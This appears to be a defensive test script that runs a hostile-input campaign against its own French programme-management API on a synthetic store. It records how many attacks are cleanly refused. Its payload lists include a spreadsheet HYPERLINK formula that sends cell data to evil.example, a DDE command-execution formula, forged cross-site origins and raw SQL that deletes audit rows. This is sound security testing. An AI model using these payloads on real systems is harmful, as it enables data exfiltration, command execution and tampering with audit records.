"""Hostile-input campaign against the API and the programme store (issue 12, items 2-6, 8, 13).

Runs in-process (and one real uvicorn for the forwarded-address case) on a throw-away SQLite
store and a SYNTHETIC warehouse (invented territories and EPCI, labelled as such), and counts
for each family of attacks: attempts, clean refusals (the expected 4xx/503 as
application/problem+json in French), server errors (5xx other than a declared 503) and data
lost or leaked (rows written that should not be, rows changed in the audit journal).
Writes benchmarks/results/hostile_api.json; docs/security.md quotes it.

    .venv/bin/python scripts/hostile_api.py
"""

from __future__ import annotations

import io
import json
import socket
import sqlite3
import tempfile
import threading
import time
from datetime import date
from pathlib import Path

import duckdb
import httpx
import openpyxl
import uvicorn
from fastapi.testclient import TestClient
from sqlalchemy import func, select, text

from vigie_industrie.api.app import create_app
from vigie_industrie.api.client import uvicorn_options
from vigie_industrie.config import Settings
from vigie_industrie.programme import models, security
from vigie_industrie.programme.db import Store, init_store

ROOT = Path(__file__).resolve().parents[1]
RESULTS = ROOT / "benchmarks" / "results" / "hostile_api.json"
PASSWORD = "mot-de-passe-campagne-1"
A, A2, B = "200072460", "200041754", "246200513"  # synthetic EPCI ids (valid Luhn keys)


def synthetic_warehouse(path: Path) -> None:
    con = duckdb.connect(str(path))
    con.execute("create table territoire_industrie(territoire_id varchar, phase integer, nom varchar, code_region varchar, "
                "nom_region varchar, nb_membres integer)")
    con.executemany("insert into territoire_industrie values (?, ?, ?, ?, ?, ?)",
                    [(f"ti-{r}{n:02d}", p, f"Territoire synthétique {r}{n:02d}", r, f"Région {r}", 1)
                     for r in ("32", "84") for n in range(1, 40) for p in (1, 2)])
    con.execute("create table epci(siren_epci varchar, nom_epci varchar, code_region varchar)")
    con.executemany("insert into epci values (?, ?, ?)", [(A, "EPCI synthétique A", "32"), (A2, "EPCI synthétique A2", "32"),
                                                         (B, "EPCI synthétique B", "84")])
    con.execute("create table commune(code_commune varchar, siren_epci varchar, code_departement varchar, code_region varchar)")
    con.executemany("insert into commune values (?, ?, ?, ?)", [("62901", A, "62", "32"), ("62902", A2, "62", "32"),
                                                               ("38901", B, "38", "84")])
    con.execute("create table commune_zone_emploi(code_commune varchar, code_ze varchar)")
    con.execute("create table commune_territoire_industrie(code_commune varchar, phase integer, territoire_id varchar)")
    con.executemany("insert into commune_territoire_industrie values (?, ?, ?)",
                    [("62901", 2, "ti-3212"), ("62901", 1, "ti-3212"), ("62902", 2, "ti-3212"), ("38901", 2, "ti-8401")])
    con.close()


class Tally:
    def __init__(self):
        self.families: dict[str, dict] = {}

    def record(self, family: str, r, expected: set[int], *, leaked: int = 0) -> None:
        f = self.families.setdefault(family, {"attempts": 0, "clean_refusals": 0, "server_errors_5xx": 0,
                                              "data_lost_or_leaked": 0, "unexpected": []})
        f["attempts"] += 1
        problem = r.headers.get("content-type", "").startswith("application/problem+json")
        if r.status_code >= 500 and r.status_code != 503:
            f["server_errors_5xx"] += 1
        if r.status_code in expected and (r.status_code < 400 or problem):
            f["clean_refusals"] += 1
        elif len(f["unexpected"]) < 5:
            f["unexpected"].append(f"{r.status_code} {r.text[:120]}")
        f["data_lost_or_leaked"] += leaked


def count(store: Store, model) -> int:
    with store.session() as s:
        return s.scalar(select(func.count()).select_from(model))


def main() -> None:
    tmp = Path(tempfile.mkdtemp(prefix="vigie-hostile-"))
    warehouse = tmp / "warehouse.duckdb"
    synthetic_warehouse(warehouse)
    url = f"sqlite:///{tmp / 'vigie.db'}"
    init_store(url)
    settings = Settings(database_url=url, env="test", warehouse=warehouse, store_busy_timeout=0.2)
    app = create_app(settings)
    store = app.state.store
    tokens = {}
    with store.transaction() as session:
        for name, spec in {"admin": dict(role="admin"), "region": dict(role="region", code_region="32"),
                           "epci": dict(role="epci", code_region="32", siren_epci=A)}.items():
            user = models.User(email=f"{name}@campagne.invalid", nom=name, password_hash=security.hash_password(PASSWORD), **spec)
            session.add(user)
            session.flush()
            from vigie_industrie.programme import users

            tokens[name], _ = users.issue_token(session=session, user=user)
    t = Tally()

    def client(who=None, **kw):
        c = TestClient(app, raise_server_exceptions=False, **kw)
        if who:
            c.headers["Authorization"] = f"Bearer {tokens[who]}"
        return c

    admin, region, epci, anon = client("admin"), client("region"), client("epci"), client()

    # 2. formula injection and round trip
    titles = ['=HYPERLINK("http://evil.example/?x="&B2,"Cliquez")', "=1+1", "+1", "-1+2", "@SUM(A1)", "'=x", "''=y",
              "=cmd|' /C calc'!A0", "-", "+"]
    for title in titles:
        admin.post("/api/v1/missions", json={"territoire_id": "ti-3212", "phase": 2, "intitule": title,
                                            "cause": title, "date_debut": "2025-01-01", "duree_jours": 30})
    xlsx = admin.get("/api/v1/programme/export", params={"type": "missions", "format": "xlsx"})
    ws = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    formulas = sum(1 for row in ws.iter_rows() for c in row if c.data_type == "f")
    csv_text = admin.get("/api/v1/programme/export", params={"type": "missions"}).text
    live_csv = sum(1 for line in csv_text.splitlines()[1:] for cell in line.split(",") if cell[:1] in "=+-@")
    before = count(store, models.Mission)
    for fmt, content in (("xlsx", xlsx.content), ("csv", csv_text.encode())):
        r = admin.post("/api/v1/programme/import", params={"type": "missions"},
                       files={"fichier": (f"m.{fmt}", content, "application/octet-stream")})
        assert r.status_code == 200, r.text
    with store.session() as s:
        stored = [(m.intitule, m.cause) for m in s.scalars(select(models.Mission).order_by(models.Mission.id))]
    lost = sum(1 for i in range(before) if stored[i] != stored[before + i] or stored[i] != stored[2 * before + i])
    export = {"titles": len(titles), "xlsx_formula_cells": formulas, "csv_cells_starting_with_formula_char": live_csv,
              "round_trips": 2, "values_changed_by_round_trip": lost}
    tempdirs_before = len(list(Path(tempfile.gettempdir()).glob("vigie-export-*")))
    for _ in range(20):
        t.record("export refused (anonymous besoins)", anon.get("/api/v1/programme/export", params={"type": "besoins"}), {401})
    export["temp_dirs_left_by_20_refusals"] = len(list(Path(tempfile.gettempdir()).glob("vigie-export-*"))) - tempdirs_before

    # 3. rights tied to territories
    besoin = {"territoire_id": "ti-8401", "phase": 2, "siren_epci": A, "siren_entreprise": "552100554",
              "nom_entreprise": "Entreprise synthétique", "categorie": "foncier", "date_collecte": "2025-01-15"}
    projet = {"territoire_id": "ti-3212", "phase": 2, "siren_epci": B, "titre": "Projet synthétique", "enjeu": "innover"}
    cases = [(epci, "besoins", besoin, {403}), (epci, "projets", {**projet, "siren_epci": A, "territoire_id": "ti-3205"}, {403}),
             (region, "projets", projet, {403}), (region, "projets", {**projet, "territoire_id": "ti-8401"}, {403}),
             (admin, "projets", {**projet, "siren_epci": "356000000"}, {422}), (region, "projets", {**projet, "siren_epci": "356000000"}, {422}),
             (admin, "besoins", {**besoin, "siren_epci": B, "territoire_id": "ti-3212"}, {422}),
             (region, "copil", {"code_region": "32", "date_copil": "2025-01-01", "decision": "x", "territoires": ["ti-3299"]}, {422})]
    for c, resource, body, expected in cases:
        n0 = count(store, models.Projet) + count(store, models.Besoin) + count(store, models.DecisionCopil)
        r = c.post(f"/api/v1/{resource}", json=body)
        n1 = count(store, models.Projet) + count(store, models.Besoin) + count(store, models.DecisionCopil)
        t.record("write outside one's territories / unknown codes", r, expected, leaked=n1 - n0)

    # 5. CSRF: session cookie only, foreign origin
    copil = admin.post("/api/v1/copil", json={"code_region": "32", "date_copil": "2025-01-01", "decision": "d",
                                              "territoires": ["ti-3212"]}).json()
    cookie = client()
    cookie.cookies.set(security.COOKIE_NAME, tokens["region"])
    evil = {"Origin": "http://evil.example"}
    attempts = [
        lambda h: cookie.post("/api/v1/contrats", json={"territoire_id": "ti-3201", "phase": 2}, headers=h),
        lambda h: cookie.post("/api/v1/programme/import", params={"type": "contrats"}, headers=h,
                              files={"fichier": ("c.csv", b"territoire_id,phase\nti-3202,2\n", "text/csv")}),
        lambda h: cookie.delete(f"/api/v1/copil/{copil['id']}", headers=h),
        lambda h: cookie.patch(f"/api/v1/copil/{copil['id']}", json={"version": 1, "decision": "pirate"}, headers=h),
        lambda h: cookie.post("/api/v1/auth/logout", headers=h),
    ]
    for headers in (evil, {"Origin": "null"}, {"Referer": "http://evil.example/x"}, {}, {"X-CSRF-Token": "0" * 64}):
        for attempt in attempts:
            n0 = count(store, models.Contrat) + count(store, models.DecisionCopil)
            r = attempt(headers)
            n1 = count(store, models.Contrat) + count(store, models.DecisionCopil)
            t.record("CSRF (session cookie, foreign or missing origin)", r, {403}, leaked=abs(n1 - n0))

    # 13. unreadable bodies, strict types, 404/405
    bodies = [b'{"email": "\xff"}', b'{"n": ' + b"9" * 5000 + b"}", b"[" * 1000 + b"]" * 1000, b"[" * 200_000,
              b"{", b'{"email": "a", "password": NaN}', b"\x00" * 100]
    for body in bodies:
        t.record("unreadable request bodies", anon.post("/api/v1/auth/token", content=body,
                                                        headers={"content-type": "application/json"}), {400, 422})
    base = {"territoire_id": "ti-3212", "phase": 2, "siren_epci": A, "titre": "Projet synthétique", "enjeu": "innover"}
    for field, value in [("phase", True), ("phase", 2.0), ("phase", "2"), ("emplois_prevus", 1.5), ("emplois_prevus", True),
                         ("montant_investissement_eur", "100"), ("montant_investissement_eur", 10**30),
                         ("titre", "x" * 400), ("titre", "\x00"), ("extra", 1)]:
        n0 = count(store, models.Projet)
        r = admin.post("/api/v1/projets", json={**base, field: value})
        t.record("strict types and bounds", r, {422}, leaked=count(store, models.Projet) - n0)
    for method, path in [("GET", "/api/v1/nulle-part"), ("PUT", "/api/v1/contrats"), ("DELETE", "/api/v1/programme/calendrier"),
                         ("GET", "/api/v1/territoires/62139?type=inconnu")]:
        t.record("unknown addresses, methods and types", anon.request(method, path), {404, 405, 422})

    # 6. audit journal tampering with raw SQL
    raw = sqlite3.connect(str(tmp / "vigie.db"))
    n_audit = count(store, models.AuditEvent)
    refused = 0
    for statement in ("update audit_event set actor_email = 'x'", "delete from audit_event", "delete from audit_event where id = 1"):
        try:
            raw.execute(statement)
            raw.commit()
        except sqlite3.DatabaseError:
            refused += 1
            raw.rollback()
    raw.close()
    audit = {"attempts": 3, "refused_by_trigger": refused, "rows_changed": n_audit - count(store, models.AuditEvent)}

    # 8. busy store: 10 writes while another connection holds the write lock
    lock = sqlite3.connect(str(tmp / "vigie.db"), isolation_level=None)
    lock.execute("BEGIN IMMEDIATE")
    for i in range(10):
        t.record("writes while the store is locked", admin.post("/api/v1/contrats", json={"territoire_id": f"ti-84{i + 10:02d}",
                                                                                           "phase": 1}), {503})
    lock.execute("ROLLBACK")
    lock.close()

    # 4. login with rotating X-Forwarded-For, through uvicorn started as `vigie serve` does
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    sock.close()
    srv = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning", lifespan="off",
                                        **uvicorn_options(settings)))
    threading.Thread(target=srv.run, daemon=True).start()
    while not srv.started:
        time.sleep(0.02)
    statuses = []
    with httpx.Client(timeout=30) as h:
        for i in range(40):
            statuses.append(h.post(f"http://127.0.0.1:{port}/api/v1/auth/token",
                                   json={"email": "admin@campagne.invalid", "password": "faux"},
                                   headers={"X-Forwarded-For": f"10.0.0.{i + 1}"}).status_code)
    srv.should_exit = True
    login = {"attempts": 40, "status_401": statuses.count(401), "status_429": statuses.count(429),
             "first_429_at_attempt": statuses.index(429) + 1 if 429 in statuses else None}

    result = {"date": date.today().isoformat(), "data": "SYNTHETIC store and warehouse (invented rows)",
              "families": t.families, "exports": export, "audit_tampering": audit, "login_rotating_forwarded_for": login}
    RESULTS.parent.mkdir(parents=True, exist_ok=True)
    RESULTS.write_text(json.dumps(result, ensure_ascii=False, indent=2) + "\n", encoding="utf-8")
    print(json.dumps(result, ensure_ascii=False, indent=2))


if __name__ == "__main__":
    main()
